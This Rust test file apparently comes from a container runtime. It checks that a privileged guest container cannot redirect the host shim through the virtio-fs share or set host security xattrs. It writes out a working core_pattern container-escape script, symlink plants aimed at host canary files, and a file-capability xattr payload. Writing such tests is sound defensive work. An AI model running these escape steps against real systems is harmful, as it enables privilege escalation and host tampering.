//! The pod's virtio-fs share is guest-writable ground: a privileged container becomes guest
//! root (through a core-dump helper, which runs in the guest's initial namespaces), reaches
//! the share through the agent's mount of it and plants symlinks to host canaries (and files where directories
//! belong) at every path the shim uses next — the next containers' directories, their
//! rootfs and bind-mount targets (`/etc/hosts`-style file mounts and volumes), and its
//! own container's directory, which the shim removes at Delete. Then more containers are
//! created, run and removed in the same pod, and the pod is stopped. No canary may be
//! created, written, mounted over or removed (CVE-2020-2026 in Kata), and the containers
//! must still work.

mod shim_common;

use std::path::{Path, PathBuf};

use anyhow::{Context, Result, ensure};
use containerd_shim_protos::api::*;
use husk_protocol::SHARED_DIR_GUEST;
use husk_tests::{Runtime, TestBed};
use serde_json::{Value, json};
use shim_common::*;

/// Every capability a 6.1 guest kernel knows: the attacker is a privileged container.
const ALL_CAPS: &[&str] = &[
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_DAC_READ_SEARCH",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_SETGID",
    "CAP_SETUID",
    "CAP_SETPCAP",
    "CAP_LINUX_IMMUTABLE",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_BROADCAST",
    "CAP_NET_ADMIN",
    "CAP_NET_RAW",
    "CAP_IPC_LOCK",
    "CAP_IPC_OWNER",
    "CAP_SYS_MODULE",
    "CAP_SYS_RAWIO",
    "CAP_SYS_CHROOT",
    "CAP_SYS_PTRACE",
    "CAP_SYS_PACCT",
    "CAP_SYS_ADMIN",
    "CAP_SYS_BOOT",
    "CAP_SYS_NICE",
    "CAP_SYS_RESOURCE",
    "CAP_SYS_TIME",
    "CAP_SYS_TTY_CONFIG",
    "CAP_MKNOD",
    "CAP_LEASE",
    "CAP_AUDIT_WRITE",
    "CAP_AUDIT_CONTROL",
    "CAP_SETFCAP",
    "CAP_MAC_OVERRIDE",
    "CAP_MAC_ADMIN",
    "CAP_SYSLOG",
    "CAP_WAKE_ALARM",
    "CAP_BLOCK_SUSPEND",
    "CAP_AUDIT_READ",
    "CAP_PERFMON",
    "CAP_BPF",
    "CAP_CHECKPOINT_RESTORE",
];

/// The host paths the attack aims at, and what they hold before it.
struct Canaries {
    root: PathBuf,
}

impl Canaries {
    fn create(bed: &TestBed) -> Result<Self> {
        let root = bed.dir().join("canary");
        std::fs::create_dir_all(root.join("dir"))?;
        std::fs::write(root.join("dir/keep"), "keep")?;
        std::fs::write(root.join("file"), "canary file")?;
        Ok(Self { root })
    }

    fn dir(&self) -> PathBuf {
        self.root.join("dir")
    }

    fn file(&self) -> PathBuf {
        self.root.join("file")
    }

    /// Must never come to exist.
    fn absent(&self) -> PathBuf {
        self.root.join("absent")
    }

    /// Nothing created, written or removed; nothing mounted on them in `mountinfo`.
    fn check(&self, mountinfo: &str, when: &str) -> Result<()> {
        let mut names: Vec<String> = std::fs::read_dir(&self.root)?
            .map(|e| e.map(|e| e.file_name().to_string_lossy().into_owned()))
            .collect::<Result<_, _>>()?;
        names.sort();
        ensure!(
            names == ["dir", "file"],
            "{when}: canary root holds {names:?}"
        );
        let in_dir: Vec<String> = std::fs::read_dir(self.dir())?
            .map(|e| e.map(|e| e.file_name().to_string_lossy().into_owned()))
            .collect::<Result<_, _>>()?;
        ensure!(in_dir == ["keep"], "{when}: canary dir holds {in_dir:?}");
        ensure!(
            std::fs::read_to_string(self.dir().join("keep"))? == "keep",
            "{when}: canary dir/keep was written"
        );
        ensure!(
            std::fs::read_to_string(self.file())? == "canary file",
            "{when}: the canary file was written"
        );
        let root = self.root.display().to_string();
        let over: Vec<&str> = mountinfo
            .lines()
            .filter(|l| l.split(' ').nth(4).is_some_and(|mp| mp.starts_with(&root)))
            .collect();
        ensure!(over.is_empty(), "{when}: mounts on canaries: {over:?}");
        Ok(())
    }
}

/// How many plants [`guest_root_script`] tries.
const PLANTS: usize = 9;

/// What the attacker does as guest root, against the containers `next` (made after it) and
/// its own `own`; `file_mount` and `dir_mount` are the names the shim gives the next
/// containers' bind-mount targets. Run by the guest kernel as a core-dump helper, in the
/// guest's initial namespaces, with the crashed attacker's pid as `$1`; no PATH there, so
/// busybox is reached through the attacker's root.
fn guest_root_script(
    canaries: &Canaries,
    own: &str,
    next: &[String; 3],
    file_mount: &str,
    dir_mount: &str,
) -> String {
    let (dir, file, absent) = (
        canaries.dir().display().to_string(),
        canaries.file().display().to_string(),
        canaries.absent().display().to_string(),
    );
    let [a, b, c] = next;
    format!(
        "B=/proc/$1/root/bin/busybox; S={SHARED_DIR_GUEST}; R=/proc/$1/root/run/report\n\
         try() {{ \"$@\" 2>/dev/null && echo \"planted: $*\" >>$R || echo \"refused: $*\" >>$R; }}\n\
         $B ls $S >>$R 2>&1 || echo NO-SHARE >>$R\n\
         try $B ln -s {dir} $S/{a}\n\
         try $B touch $S/{b}\n\
         try $B mkdir -p $S/{c}/mounts\n\
         try $B ln -s {absent} $S/{c}/rootfs\n\
         try $B ln -s {file} $S/{c}/mounts/{file_mount}\n\
         try $B ln -s {dir} $S/{c}/mounts/{dir_mount}\n\
         try $B ln -s {dir} $S/{own}/mounts/planted\n\
         try $B rm -rf $S/{own}/mounts\n\
         try $B ln -s {dir} $S/{own}/mounts\n\
         echo attack-done >>$R\n"
    )
}

/// The privileged container's part: become guest root the classic way (a core-dump pipe
/// helper runs in the guest's initial namespaces as root), run `as_root` there, and print
/// its report.
fn attack_script(as_root: &str) -> String {
    format!(
        "cat > /run/escape.sh <<'EOS'\n{as_root}EOS\n\
         echo 1 > /proc/sys/kernel/core_pipe_limit\n\
         echo '|/proc/%P/root/bin/sh /proc/%P/root/run/escape.sh %P' > /proc/sys/kernel/core_pattern\n\
         ulimit -c unlimited\n\
         sh -c 'kill -SEGV $$'\n\
         for i in $(seq 100); do grep -q attack-done /run/report 2>/dev/null && break; sleep 0.1; done\n\
         cat /run/report\n"
    )
}

/// A privileged spec: every capability, nothing masked or read-only in /proc and /sys.
fn privileged(spec: &mut Value) {
    spec["linux"]["maskedPaths"] = json!([]);
    spec["linux"]["readonlyPaths"] = json!([]);
    let caps = json!(ALL_CAPS);
    spec["process"]["capabilities"] = json!({
        "bounding": caps, "effective": caps, "permitted": caps, "inheritable": caps, "ambient": caps,
    });
}

/// Appends a bind mount of host `source` at `destination` to the spec.
fn add_bind(spec: &mut Value, destination: &str, source: &Path, options: &[&str]) {
    if let Some(mounts) = spec["mounts"].as_array_mut() {
        mounts.push(json!({"destination": destination, "type": "bind",
            "source": source, "options": options}));
    }
}

/// A victim container: reads an `/etc/hosts`-style file mount and lists a volume.
fn victim<'a>(hosts: &'a Path, volume: &'a Path) -> impl FnOnce(&mut Value) + 'a {
    move |spec: &mut Value| {
        add_bind(spec, "/etc/hosts", hosts, &["rbind", "ro"]);
        add_bind(spec, "/data", volume, &["rbind", "rw"]);
    }
}

/// The shim's names for the two bind mounts [`victim`] appends (`<index>-<file name>`).
fn victim_mount_names(bed: &TestBed) -> Result<(String, String)> {
    let spec: Value = serde_json::from_str(&bed.ctr().checked(["oci", "spec"])?.stdout_text())?;
    let n = spec["mounts"].as_array().map_or(0, Vec::len);
    Ok((format!("{n}-hosts"), format!("{}-volume", n + 1)))
}

/// Create, Start, Wait and Delete of container `id`; `while_created` runs between Create
/// and Start, while the shim has everything of the container mounted.
async fn run_to_exit(
    shim: &Shim,
    bed: &TestBed,
    id: &str,
    bundle: &Path,
    while_created: impl FnOnce() -> Result<()>,
) -> Result<(u32, String)> {
    let t = &shim.client;
    let mut out = FifoReader::create(bed.dir().join(format!("{id}.out")))?;
    let err = FifoReader::create(bed.dir().join(format!("{id}.err")))?;
    t.create(ctx(), &create_request(id, bundle, &out.path, &err.path))
        .await
        .with_context(|| format!("Create {id}"))?;
    while_created()?;
    out.start()?;
    t.start(ctx(), &req(|r: &mut StartRequest| r.id = id.into()))
        .await?;
    let exit = t
        .wait(ctx(), &req(|r: &mut WaitRequest| r.id = id.into()))
        .await?;
    let (data, _) = out.finish()?;
    t.delete(ctx(), &req(|r: &mut DeleteRequest| r.id = id.into()))
        .await
        .with_context(|| format!("Delete {id}"))?;
    Ok((
        exit.exit_status,
        String::from_utf8_lossy(&data).into_owned(),
    ))
}

/// The pod directory as the shim sees it (its own mount namespace), two levels deep.
fn shim_view(pid: u32, pod: &str) -> String {
    let root = PathBuf::from(format!("/proc/{pid}/root/run/husk/{pod}"));
    let mut out = String::new();
    let mut walk = vec![(root.clone(), 0)];
    while let Some((dir, depth)) = walk.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let path = e.path();
            let kind = match e.file_type() {
                Ok(t) if t.is_symlink() => format!("-> {:?}", std::fs::read_link(&path).ok()),
                Ok(t) if t.is_dir() => "/".to_string(),
                _ => String::new(),
            };
            let shown = path
                .strip_prefix(&root)
                .unwrap_or(&path)
                .display()
                .to_string();
            out.push_str(&format!("  {shown}{kind}\n"));
            if e.file_type().is_ok_and(|t| t.is_dir()) && depth < 3 {
                walk.push((path, depth + 1));
            }
        }
    }
    out
}

fn shim_mountinfo(pid: u32) -> Result<String> {
    std::fs::read_to_string(format!("/proc/{pid}/mountinfo"))
        .with_context(|| format!("reading the shim's mountinfo (pid {pid})"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guest_cannot_redirect_the_shim_through_the_share() -> Result<()> {
    let bed = TestBed::start("share-attack", Runtime::Husk)?;
    let containerd = FakeContainerd::start(&bed).await?;
    let canaries = Canaries::create(&bed)?;
    let hosts = bed.dir().join("hosts");
    std::fs::write(&hosts, "10.0.0.1 victim-hosts-file\n")?;
    let volume = bed.dir().join("volume");
    std::fs::create_dir_all(&volume)?;
    std::fs::write(volume.join("in-volume"), "")?;

    let pod = bed.id("pod");
    let attacker = bed.id("attacker");
    let next = [bed.id("next-a"), bed.id("next-b"), bed.id("next-c")];
    let (file_mount, dir_mount) = victim_mount_names(&bed)?;
    let as_root = guest_root_script(&canaries, &attacker, &next, &file_mount, &dir_mount);
    let script = attack_script(&as_root);
    // The attacker has a file mount of its own, so its directory has a `mounts/`.
    let own_hosts = bed.dir().join("attacker-hosts");
    std::fs::write(&own_hosts, "attacker\n")?;
    let b_attacker = make_bundle_with(&bed, &pod, &attacker, &["sh", "-c", &script], |s| {
        privileged(s);
        add_bind(s, "/etc/hosts", &own_hosts, &["rbind", "ro"]);
    })?;
    let shim = start_shim(&bed, &b_attacker, &attacker, &containerd.socket).await?;
    let t = &shim.client;
    let mut out = FifoReader::create(bed.dir().join("attacker.out"))?;
    let err = FifoReader::create(bed.dir().join("attacker.err"))?;
    t.create(
        ctx(),
        &create_request(&attacker, &b_attacker, &out.path, &err.path),
    )
    .await?;
    out.start()?;
    let shim_pid = t.connect(ctx(), &ConnectRequest::new()).await?.shim_pid;
    t.start(ctx(), &req(|r: &mut StartRequest| r.id = attacker.clone()))
        .await?;
    t.wait(ctx(), &req(|r: &mut WaitRequest| r.id = attacker.clone()))
        .await?;
    let (report, _) = out.finish()?;
    let report = String::from_utf8_lossy(&report).into_owned();
    eprintln!("attack:\n{report}");
    eprintln!(
        "the shim's pod directory after the attack:\n{}",
        shim_view(shim_pid, &pod)
    );
    ensure!(
        report.contains("attack-done"),
        "the attack did not run: {report}"
    );
    canaries.check(&shim_mountinfo(shim_pid)?, "after the attack")?;

    // A sandbox-like container keeps the pod up while the victims come and go.
    let keeper = bed.id("keeper");
    let b_keeper = make_bundle(&bed, &pod, &keeper, &["sleep", "1000"])?;
    let keeper_out = FifoReader::create(bed.dir().join("keeper.out"))?;
    let keeper_err = FifoReader::create(bed.dir().join("keeper.err"))?;
    t.create(
        ctx(),
        &create_request(&keeper, &b_keeper, &keeper_out.path, &keeper_err.path),
    )
    .await?;
    t.start(ctx(), &req(|r: &mut StartRequest| r.id = keeper.clone()))
        .await?;
    t.delete(ctx(), &req(|r: &mut DeleteRequest| r.id = attacker.clone()))
        .await
        .context("Delete of the attacker")?;
    canaries.check(&shim_mountinfo(shim_pid)?, "after deleting the attacker")?;

    let mut outcomes = Vec::new();
    for id in &next {
        let bundle = make_bundle_with(
            &bed,
            &pod,
            id,
            &["sh", "-c", "cat /etc/hosts; ls /data"],
            victim(&hosts, &volume),
        )?;
        let while_created = || canaries.check(&shim_mountinfo(shim_pid)?, &format!("{id} created"));
        // A failed Create is allowed to be the answer to a planted path, as long as it
        // touched no canary; whether every container worked is judged after the loop.
        match run_to_exit(&shim, &bed, id, &bundle, while_created).await {
            Ok((status, output)) => outcomes.push(format!("{id}: exit {status}: {output:?}")),
            Err(e) => outcomes.push(format!("{id}: failed: {e:#}")),
        }
        canaries.check(&shim_mountinfo(shim_pid)?, &format!("after {id}"))?;
    }
    // The attack reached the share (it listed it, its own directory included) and every
    // plant was tried; the share is a read-only view: nothing could be planted, so every
    // victim works.
    ensure!(
        !report.contains("NO-SHARE") && report.lines().any(|l| l.trim() == attacker),
        "the guest root never saw the share, so the attack proves nothing: {report}"
    );
    ensure!(
        report.matches("refused: ").count() == PLANTS,
        "expected {PLANTS} refused plants: {report}"
    );
    ensure!(
        !report.contains("planted:"),
        "the guest changed the share's directory tree: {report}"
    );
    ensure!(
        outcomes.iter().all(|o| o.contains("exit 0")
            && o.contains("victim-hosts-file")
            && o.contains("in-volume")),
        "containers after the attack: {outcomes:#?}"
    );

    t.kill(
        ctx(),
        &req(|r: &mut KillRequest| {
            r.id = keeper.clone();
            r.signal = SIGKILL
        }),
    )
    .await?;
    t.wait(ctx(), &req(|r: &mut WaitRequest| r.id = keeper.clone()))
        .await?;
    t.delete(ctx(), &req(|r: &mut DeleteRequest| r.id = keeper.clone()))
        .await?;
    wait_for(|| (!shim.socket.exists()).then_some(())).await?;
    canaries.check(
        &std::fs::read_to_string("/proc/self/mountinfo")?,
        "after the pod stopped",
    )?;
    ensure!(
        std::fs::read_to_string(&hosts)? == "10.0.0.1 victim-hosts-file\n",
        "the read-only hosts file was written"
    );
    drop(shim);
    containerd.shutdown().await?;
    bed.finish()?;
    Ok(())
}

/// Sets extended attributes from the guest: `setxattr <path> <name> <hex value>`. busybox
/// has no setfattr; this is built static on the host and reaches the guest in a volume.
const SETXATTR_C: &str = r#"
#include <stdio.h>
#include <string.h>
#include <sys/xattr.h>
int main(int argc, char **argv) {
    unsigned char value[256];
    size_t n = argc == 4 ? strlen(argv[3]) / 2 : 0;
    if (argc != 4 || n > sizeof value) { fprintf(stderr, "usage\n"); return 2; }
    for (size_t i = 0; i < n; i++) sscanf(argv[3] + 2 * i, "%2hhx", &value[i]);
    if (setxattr(argv[1], argv[2], value, n, 0) != 0) { perror(argv[2]); return 1; }
    printf("set %s\n", argv[2]);
    return 0;
}
"#;

/// A v2 file capability granting CAP_NET_RAW, effective.
const FILE_CAP_NET_RAW: &str = "0100000200200000000000000000000000000000";

fn host_xattr(path: &Path, name: &str) -> Result<Option<Vec<u8>>> {
    use std::os::unix::ffi::OsStrExt;
    let c_path = std::ffi::CString::new(path.as_os_str().as_bytes())?;
    let c_name = std::ffi::CString::new(name)?;
    let mut buf = vec![0u8; 256];
    // SAFETY: both strings are NUL-terminated and `buf` is writable for its length.
    let n = unsafe {
        libc::lgetxattr(
            c_path.as_ptr(),
            c_name.as_ptr(),
            buf.as_mut_ptr().cast(),
            buf.len(),
        )
    };
    if n < 0 {
        let e = std::io::Error::last_os_error();
        return if e.raw_os_error() == Some(libc::ENODATA) {
            Ok(None)
        } else {
            Err(e.into())
        };
    }
    buf.truncate(usize::try_from(n)?);
    Ok(Some(buf))
}

/// The names of every extended attribute of `path` on the host.
fn host_xattr_names(path: &Path) -> Result<Vec<String>> {
    use std::os::unix::ffi::OsStrExt;
    let c_path = std::ffi::CString::new(path.as_os_str().as_bytes())?;
    let mut buf = vec![0u8; 4096];
    // SAFETY: the path is NUL-terminated and `buf` is writable for its length.
    let n = unsafe { libc::llistxattr(c_path.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    if n < 0 {
        return Err(std::io::Error::last_os_error().into());
    }
    buf.truncate(usize::try_from(n)?);
    Ok(buf
        .split(|&b| b == 0)
        .filter(|n| !n.is_empty())
        .map(|n| String::from_utf8_lossy(n).into_owned())
        .collect())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guest_xattrs_stay_out_of_host_security_namespaces() -> Result<()> {
    let bed = TestBed::start("share-xattr", Runtime::Husk)?;
    let containerd = FakeContainerd::start(&bed).await?;
    let volume = bed.dir().join("xattr-volume");
    std::fs::create_dir_all(&volume)?;
    let target = volume.join("f");
    std::fs::write(&target, "payload")?;
    let source = bed.dir().join("setxattr.c");
    std::fs::write(&source, SETXATTR_C)?;
    let out = std::process::Command::new("cc")
        .args(["-static", "-O", "-o"])
        .arg(volume.join("setxattr"))
        .arg(&source)
        .output()
        .context("running cc")?;
    ensure!(
        out.status.success(),
        "cc: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    let id = bed.id("xattr");
    let script = format!(
        "/data/setxattr /data/f trusted.overlay.opaque 79; \
         /data/setxattr /data/f security.selinux 73797374656d00; \
         /data/setxattr /data/f security.capability {FILE_CAP_NET_RAW}"
    );
    let bundle = make_bundle_with(&bed, &id, &id, &["sh", "-c", &script], |s| {
        privileged(s);
        add_bind(s, "/data", &volume, &["rbind", "rw"]);
    })?;
    let shim = start_shim(&bed, &bundle, &id, &containerd.socket).await?;
    let (status, output) = run_to_exit(&shim, &bed, &id, &bundle, || Ok(())).await?;
    eprintln!("guest: exit {status}: {output}");
    wait_for(|| (!shim.socket.exists()).then_some(())).await?;

    for name in [
        "security.capability",
        "trusted.overlay.opaque",
        "security.selinux",
    ] {
        ensure!(
            host_xattr(&target, name)?.is_none(),
            "the guest set {name} on the host file"
        );
    }
    // The guest's write did happen, confined to the user.virtiofs. prefix.
    ensure!(
        output.contains("set security.capability")
            && host_xattr(&target, "user.virtiofs.security.capability")?.is_some(),
        "the guest's security.capability was not stored under user.virtiofs. (exit {status}: {output}); the host file has {:?}",
        host_xattr_names(&target)?
    );
    drop(shim);
    containerd.shutdown().await?;
    bed.finish()?;
    Ok(())
}
